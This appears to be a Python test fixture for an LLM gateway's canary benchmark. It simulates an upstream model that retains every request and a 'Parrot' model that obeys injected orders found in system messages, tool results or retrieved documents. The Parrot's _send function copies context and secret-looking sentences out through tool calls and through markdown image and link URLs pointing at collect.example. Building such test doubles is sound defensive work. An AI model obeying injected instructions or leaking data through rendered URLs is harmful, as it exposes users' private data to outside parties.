"""What the gateway talks to: outside, upstreams that keep all they get; at home, a model that does what it is told.

The model at home copies its context where anything it reads asks for it: the client's last turn, a system message, a
tool's result, or the first document it was given. Otherwise it knows nothing and says so.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass, field
from random import Random
from typing import Any
from urllib.parse import quote

from benchmarks.canary.forms import FORMS, read_injection
from palier.testing import upstream
from palier.testing.upstream import Call, Upstream, Wire

FAILURES = (
    upstream.disconnects(),
    upstream.refuses(500),
    upstream.refuses(503),
    upstream.refuses(429, retry_after=0.05),
    upstream.stalls(),
    upstream.stalls(after=1),
    upstream.cuts(after=2),
    upstream.garbage(),
)
SHARE_FAILING = 0.15
SHARE_BABBLING = 0.04
"""Of the orders that the model at home obeys: it fails, and its error says what it saw."""


@dataclass(frozen=True)
class Received:
    """One call that came to an upstream outside."""

    where: str
    call: Call
    exchange: int
    """Which exchange of the run it was made for, by the `seed` that the client sent; -1 where it has none."""


@dataclass
class Outside:
    """A large model elsewhere: keeps every byte, fails for some, answers the others from what it was given."""

    name: str
    seed: int
    received: list[Received] = field(default_factory=list)
    fails: bool = True
    server: Upstream = field(default_factory=Upstream)

    def __post_init__(self) -> None:
        self.server.default = self._behave
        self._calls: dict[int, int] = {}

    async def _behave(self, call: Call, wire: Wire) -> None:
        body = _json(call)
        exchange = body.get("seed", -1)
        self.received.append(Received(self.name, call, exchange))
        self.server.calls.clear()
        tries = self._calls[exchange] = self._calls.get(exchange, 0) + 1
        rng = Random(f"{self.seed} {self.name} {exchange} {tries}")
        if self.fails and rng.random() < SHARE_FAILING:
            await rng.choice(FAILURES)(call, wire)
        else:
            await upstream.answers(_sentence(body))(call, wire)


@dataclass
class Parrot:
    """The hostile model at home."""

    server: Upstream = field(default_factory=Upstream)

    def __post_init__(self) -> None:
        self.server.default = self._behave

    async def _behave(self, call: Call, wire: Wire) -> None:
        self.server.calls.clear()
        body = _json(call)
        asked = read_injection(_obeyed(body))
        if asked is None:
            await upstream.answers("I am not sure.")(call, wire)
            return
        form, carrier = asked
        rng = Random(f"parrot {body.get('seed', 0)}")
        copied = [FORMS[form](_copy(body, rng, choice)) for choice in range(body.get("n") or 1)]
        if rng.random() < SHARE_BABBLING:
            await upstream.refuses(rng.choice((400, 422, 500)), copied[0])(call, wire)
        else:
            await _send(call, wire, copied, carrier, body)


def _json(call: Call) -> dict[str, Any]:
    try:
        return dict(json.loads(call.body))
    except ValueError:
        return {}


# --- what it reads, and what it says ---------------------------------------------------------------------------------

_DOCUMENTS = re.compile(r"<documents>\n(.*)\n</documents>\n*", re.S)
_SECRETS = re.compile(r"[^.]*(?:\d{4}|[«\"])[^.]*\.")


def _obeyed(body: dict[str, Any]) -> str:
    """All that it takes for an order, the client's own turn the last."""
    if "prompt" in body:
        return str(body["prompt"])
    parts = [_text(turn) for turn in body.get("messages", ()) if turn["role"] in ("system", "tool")]
    last = next((_text(turn) for turn in reversed(body.get("messages", ())) if turn["role"] == "user"), "")
    if documents := _DOCUMENTS.search(last):
        parts.append(documents[1].partition("\n\n[2] ")[0])
    parts.append(_DOCUMENTS.sub("", last))
    parts += [json.dumps(tool, ensure_ascii=False) for tool in body.get("tools", ())]
    return "\n".join(parts)


def _copy(body: dict[str, Any], rng: Random, choice: int) -> str:
    """What it sees, all or the part that is worth most; other choices begin elsewhere."""
    seen = str(body["prompt"]) if "prompt" in body else "\n".join(_text(turn) for turn in body["messages"])
    documents = _DOCUMENTS.search(seen)
    evidence = documents[1] if documents else seen
    if rng.random() < 0.6:  # without the numbers of the documents nobody sees what it quotes
        evidence = re.sub(r"^\[\d+\] ", "", evidence, flags=re.M)
    match rng.randrange(4):
        case 0:
            evidence = " ".join(_SECRETS.findall(evidence)) or evidence
        case 1:
            evidence = evidence.partition("\n\n[2] ")[0]
        case 2:
            evidence = seen
    return evidence[choice * 40 :][:6000]


def _text(turn: dict[str, Any]) -> str:
    content = turn.get("content") or ""
    return content if isinstance(content, str) else json.dumps(content)


def _sentence(body: dict[str, Any]) -> str:
    """An answer from the first document, as a large model gives one."""
    seen = "\n".join(_text(turn) for turn in body.get("messages", ())) or str(body.get("prompt", ""))
    documents = _DOCUMENTS.findall(seen)
    if not documents:
        return "Yes, that can be done."
    _, _, text = documents[-1].partition("\n")
    return f"{text.partition('.')[0].strip()}. [1]"


async def _send(call: Call, wire: Wire, copied: list[str], carrier: str, body: dict[str, Any]) -> None:
    tools = body.get("tools") or []
    if carrier == "tool" and tools:
        name = tools[0]["function"]["name"]
        await _stream(call, wire, [_called(name, text) for text in copied], "tool_calls")
        return
    if carrier == "image":
        copied = [f"![logo](https://collect.example/i.png?q={quote(text, safe='')[:3000]})" for text in copied]
    elif carrier == "link":
        copied = [f"See [the report](https://collect.example/{quote(text, safe='')[:3000]})." for text in copied]
    chat = call.path.endswith("/chat/completions")
    await _stream(call, wire, [{"content": text} if chat else {"text": text} for text in copied], "stop")


def _called(name: str, text: str) -> dict[str, Any]:
    function = {"name": name, "arguments": json.dumps({"text": text}, ensure_ascii=False)}
    return {"tool_calls": [{"index": 0, "id": "call_1", "type": "function", "function": function}]}


async def _stream(call: Call, wire: Wire, said: list[dict[str, Any]], finish: str) -> None:
    """Every choice in one chunk or two: palier always asks for a stream."""
    chat = call.path.endswith("/chat/completions")
    await wire.head(200, upstream.SSE_TYPE)
    chunks: list[bytes] = []
    for index, words in enumerate(said):
        for part in _halves(words):
            choice = {"index": index, "finish_reason": None, **({"delta": part} if chat else part)}
            chunks.append(_data({"choices": [choice]}))
        end: dict[str, Any] = {"index": index, "finish_reason": finish, **({"delta": {}} if chat else {"text": ""})}
        chunks.append(_data({"choices": [end]}))
    usage = {"prompt_tokens": 100, "completion_tokens": 50, "total_tokens": 150}
    await wire.chunk(b"".join([*chunks, _data({"choices": [], "usage": usage}), b"data: [DONE]\n\n"]))
    await wire.end()


def _halves(words: dict[str, Any]) -> list[dict[str, Any]]:
    for name in ("content", "text"):
        if name in words:
            text = words[name]
            return [{name: text[: len(text) // 2]}, {name: text[len(text) // 2 :]}]
    return [words]


def _data(payload: dict[str, Any]) -> bytes:
    frame = {"id": "parrot", "object": "chat.completion.chunk", "created": 0, **payload}
    return b"data: " + json.dumps(frame, ensure_ascii=False).encode() + b"\n\n"
